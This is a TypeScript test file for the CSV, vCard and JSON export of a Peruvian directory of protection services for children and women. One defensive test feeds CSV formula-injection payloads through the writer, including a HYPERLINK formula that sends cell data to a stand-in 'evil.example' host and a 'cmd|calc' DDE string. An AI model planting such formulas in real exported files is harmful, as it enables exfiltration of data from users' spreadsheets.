import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import {
  CSV_HEADER,
  csvField,
  SAMPLE_NOTE,
  servicesCsv,
  servicesJson,
  servicesVcf,
  toServiceEntry,
  type ServiceEntry,
} from '../../src/lib/directory/export';

const nationalLines = [
  { name: 'Central de Emergencias 105', number: '105' },
  { name: 'Línea 1818', number: '1818' },
  { name: 'Línea 100', number: '100' },
];

const withPhone: ServiceEntry = {
  id: 'demuna-cusco',
  kind: 'demuna',
  kindLabel: 'DEMUNA',
  name: 'DEMUNA de la Municipalidad Provincial del Cusco, "sede central"',
  address: 'Plaza de Armas s/n, Cusco; 2.º piso\\oficina 4',
  phone: '084-241 234',
  hours: 'Lunes a viernes, 8:00–16:00',
  verified: new Date('2026-11-28T00:00:00Z'),
  sample: false,
  sources: [
    { title: 'Directorio de Demuna, MIMP', url: 'https://www.gob.pe/mimp' },
    { title: 'Guía regional', document: 'Gobierno Regional del Cusco, 2025' },
  ],
};

const withoutPhone: ServiceEntry = {
  id: 'cem-quillabamba',
  kind: 'cem',
  kindLabel: 'Centro Emergencia Mujer',
  name: 'CEM Quillabamba – atención en castellano y quechua, sin teléfono propio publicado',
  address: undefined,
  phone: undefined,
  hours: undefined,
  verified: undefined,
  sample: true,
  sources: [],
};

const services = [withPhone, withoutPhone];
const region = { slug: 'cusco', name: 'Cusco' };

/** RFC 4180 records, read by hand: quoted fields, doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      expect(field).toBe(''); // a quote only opens a field
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r') {
      expect(text[i + 1]).toBe('\n');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      expect(c).not.toBe('\n'); // a bare LF outside quotes is not a record separator
      field += c;
    }
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  expect(row).toEqual([]); // the last record ends with CRLF
  return rows;
}

/** vCard content lines: unfolded (CRLF + space), split into name;params and value. */
function vcardLines(text: string): { name: string; params: string[]; value: string }[] {
  expect(text.endsWith('\r\n')).toBe(true);
  return text
    .replace(/\r\n /g, '')
    .split('\r\n')
    .slice(0, -1)
    .map((line) => {
      const colon = line.indexOf(':');
      const [name, ...params] = line.slice(0, colon).split(';');
      return { name: name!, params, value: line.slice(colon + 1) };
    });
}

/** Splits the cards apart. */
function cards(text: string) {
  const result: ReturnType<typeof vcardLines>[] = [];
  for (const line of vcardLines(text)) {
    if (line.name === 'BEGIN') result.push([]);
    result.at(-1)!.push(line);
  }
  return result;
}

/** RFC 6350 3.4: undoes the escapes of a text value. */
function unescape(value: string): string {
  return value.replace(/\\([\\,;nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));
}

describe('servicesCsv', () => {
  const csv = servicesCsv(services, nationalLines);

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes the Spanish header and one row per service that reads back as the data', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([...CSV_HEADER]);
    expect(rows[0]).toEqual(['tipo', 'nombre', 'direccion', 'telefono', 'horario', 'verificado', 'ejemplo', 'fuente']);
    expect(rows).toHaveLength(3);
    expect(rows[1]).toEqual([
      'DEMUNA',
      'DEMUNA de la Municipalidad Provincial del Cusco, "sede central"',
      'Plaza de Armas s/n, Cusco; 2.º piso\\oficina 4',
      '084-241 234',
      'Lunes a viernes, 8:00–16:00',
      '2026-11-28',
      'no',
      'Directorio de Demuna, MIMP (https://www.gob.pe/mimp); Guía regional (Gobierno Regional del Cusco, 2025)',
    ]);
    expect(rows[2]).toEqual([
      'Centro Emergencia Mujer',
      withoutPhone.name,
      '',
      'Líneas nacionales: Central de Emergencias 105: 105; Línea 1818: 1818; Línea 100: 100',
      '',
      '',
      'sí',
      '',
    ]);
  });

  it('quotes a field with a comma or a quote, doubling the quotes, and leaves plain fields bare', () => {
    expect(csv).toContain('"DEMUNA de la Municipalidad Provincial del Cusco, ""sede central"""');
    expect(csv).toContain(',084-241 234,');
    expect(csv).toContain(',2026-11-28,no,');
  });

  it('quotes line breaks inside a field', () => {
    const multiline = servicesCsv([{ ...withPhone, hours: 'Lunes: 8–13\nMartes: 8–16' }], nationalLines);
    const rows = parseCsv(multiline.slice(1));
    expect(rows[1]![4]).toBe('Lunes: 8–13\nMartes: 8–16');
  });

  it('never invents a number: no phone and no national lines leaves telefono empty', () => {
    const rows = parseCsv(servicesCsv([withoutPhone], []).slice(1));
    expect(rows[1]![3]).toBe('');
  });

  it('writes a field that a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
    const hostile = { ...withPhone, name: '=HYPERLINK("https://evil.example/?"&A1,"Ver")', hours: '+1+1', address: '@SUM(1)', phone: '-2+3' };
    const written = servicesCsv([hostile, { ...withPhone, name: '\tcmd|calc', hours: '\r=1' }], nationalLines);
    const rows = parseCsv(written.slice(1));
    expect(rows[1]?.slice(1, 5)).toEqual(["'=HYPERLINK(\"https://evil.example/?\"&A1,\"Ver\")", "'@SUM(1)", "'-2+3", "'+1+1"]);
    expect(rows[2]?.[1]).toBe("'\tcmd|calc");
    expect(rows[2]?.[4]).toBe("'\r=1");
    // In the bytes: no field (first cell, or after a comma) starts with a formula character.
    expect(written.slice(1)).not.toMatch(/(^|,|\r\n)"?[=+\-@\t]/);
    // Plain text, numbers and dates are left as they are.
    expect(csvField('084-241 234')).toBe('084-241 234');
    expect(csvField('DEMUNA')).toBe('DEMUNA');
  });

  it('writes only the header for an empty directory', () => {
    expect(servicesCsv([], nationalLines)).toBe(`\uFEFF${CSV_HEADER.join(',')}\r\n`);
  });
});

describe('servicesVcf', () => {
  const vcf = servicesVcf(services, nationalLines);
  const [first, second] = cards(vcf);
  const get = (card: typeof first, name: string) => card!.filter((line) => line.name === name);

  it('writes one vCard 4.0 per service, for an organization', () => {
    expect(cards(vcf)).toHaveLength(2);
    for (const card of [first!, second!]) {
      expect(card[0]).toEqual({ name: 'BEGIN', params: [], value: 'VCARD' });
      expect(card[1]).toEqual({ name: 'VERSION', params: [], value: '4.0' });
      expect(card.at(-1)).toEqual({ name: 'END', params: [], value: 'VCARD' });
      expect(get(card, 'KIND')[0]!.value).toBe('org');
    }
  });

  it('escapes commas, semicolons and backslashes per RFC 6350', () => {
    const fn = get(first, 'FN')[0]!.value;
    expect(fn).toBe('DEMUNA de la Municipalidad Provincial del Cusco\\, "sede central"');
    expect(unescape(fn)).toBe(withPhone.name);
    expect(unescape(get(first, 'ORG')[0]!.value)).toBe(withPhone.name);
    const adr = get(first, 'ADR')[0]!;
    expect(adr.params).toEqual(['TYPE=work']);
    expect(adr.value).toBe(';;Plaza de Armas s/n\\, Cusco\\; 2.º piso\\\\oficina 4;;;;');
  });

  it('gives a tel: URI of the digits only when the service has its own phone', () => {
    const tel = get(first, 'TEL');
    expect(tel).toHaveLength(1);
    expect(tel[0]!.params).toEqual(['TYPE=work', 'VALUE=uri']);
    expect(tel[0]!.value).toBe('tel:084241234');
    expect(get(second, 'TEL')).toHaveLength(0);
  });

  it('lists the national lines in NOTE for a service without a phone, and flags sample content', () => {
    const note = unescape(get(second, 'NOTE')[0]!.value);
    expect(note).toContain(SAMPLE_NOTE);
    expect(note).toContain('Contenido de ejemplo');
    expect(note).toContain('Líneas nacionales: Central de Emergencias 105: 105; Línea 1818: 1818; Línea 100: 100');
    expect(get(second, 'ADR')).toHaveLength(0);

    const firstNote = unescape(get(first, 'NOTE')[0]!.value);
    expect(firstNote).not.toContain('Contenido de ejemplo');
    expect(firstNote).not.toContain('Líneas nacionales');
    expect(firstNote).toContain('Horario: Lunes a viernes, 8:00–16:00');
    expect(firstNote).toContain('Verificado: 2026-11-28');
  });

  it('folds lines longer than 75 octets, without splitting a character, and uses CRLF only', () => {
    expect(vcf.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const physical = vcf.split('\r\n').slice(0, -1);
    for (const line of physical) {
      expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
      expect(line).not.toContain('\uFFFD');
      expect(line).not.toMatch(/(^|[^\\])(\\\\)*\\$/); // no escape cut in half
    }
    expect(physical.filter((line) => line.startsWith(' ')).length).toBeGreaterThan(0);
    // Unfolded, the long name is whole again.
    expect(unescape(get(second, 'FN')[0]!.value)).toBe(withoutPhone.name);
  });

  it('reads back with a vCard parser (ical.js)', () => {
    const parsed: unknown[] = ICAL.parse(vcf) as unknown[];
    const components = (Array.isArray(parsed[0]) ? parsed : [parsed]).map(
      (jcard) => new ICAL.Component(jcard as unknown[]),
    );
    expect(components).toHaveLength(2);
    const [a, b] = components;
    expect(a!.getFirstPropertyValue('fn')).toBe(withPhone.name);
    expect(a!.getFirstPropertyValue('tel')).toBe('tel:084241234');
    expect(a!.getFirstPropertyValue('adr')).toEqual(['', '', 'Plaza de Armas s/n, Cusco; 2.º piso\\oficina 4', '', '', '', '']);
    expect(b!.getFirstPropertyValue('fn')).toBe(withoutPhone.name);
    expect(b!.getFirstPropertyValue('tel')).toBeNull();
    expect(String(b!.getFirstPropertyValue('note'))).toContain('Línea 1818: 1818');
  });

  it('is empty for an empty directory', () => {
    expect(servicesVcf([], nationalLines)).toBe('');
  });
});

describe('servicesJson', () => {
  const json = servicesJson(region, services, nationalLines);
  const data = JSON.parse(json) as {
    region: { slug: string; name: string };
    services: Record<string, unknown>[];
    nationalLines: { name: string; number: string }[];
  };

  it('is pretty-printed', () => {
    expect(json).toContain('\n  "region": {\n');
    expect(json.endsWith('}\n')).toBe(true);
  });

  it('gives the region, the services with ISO dates and the national lines', () => {
    expect(data.region).toEqual(region);
    expect(data.nationalLines).toEqual(nationalLines);
    expect(data.services).toEqual([
      {
        id: 'demuna-cusco',
        kind: 'demuna',
        kindLabel: 'DEMUNA',
        name: withPhone.name,
        address: withPhone.address,
        phone: '084-241 234',
        hours: 'Lunes a viernes, 8:00–16:00',
        verified: '2026-11-28',
        sample: false,
        sources: [
          { title: 'Directorio de Demuna, MIMP', url: 'https://www.gob.pe/mimp', document: null },
          { title: 'Guía regional', url: null, document: 'Gobierno Regional del Cusco, 2025' },
        ],
      },
      {
        id: 'cem-quillabamba',
        kind: 'cem',
        kindLabel: 'Centro Emergencia Mujer',
        name: withoutPhone.name,
        address: null,
        phone: null,
        hours: null,
        verified: null,
        sample: true,
        sources: [],
      },
    ]);
  });
});

describe('toServiceEntry', () => {
  it('takes a collection entry (region as a reference) and the kind label', () => {
    // As Astro gives it: region is a reference { id, collection }.
    const data = {
      id: 'upe-cusco',
      region: { id: 'cusco', collection: 'regions' },
      kind: 'upe' as const,
      name: 'UPE Cusco',
      phone: '084 123456',
      reviewed: new Date('2026-01-01T00:00:00Z'),
      sample: false,
      sources: [{ title: 'MIMP', url: 'https://www.gob.pe/mimp' }],
    };
    const entry = toServiceEntry(data, 'Unidad de Protección Especial');
    expect(entry).toEqual({
      id: 'upe-cusco',
      kind: 'upe',
      kindLabel: 'Unidad de Protección Especial',
      name: 'UPE Cusco',
      address: undefined,
      phone: '084 123456',
      hours: undefined,
      verified: undefined,
      sample: false,
      sources: [{ title: 'MIMP', url: 'https://www.gob.pe/mimp', document: undefined }],
    });
  });
});
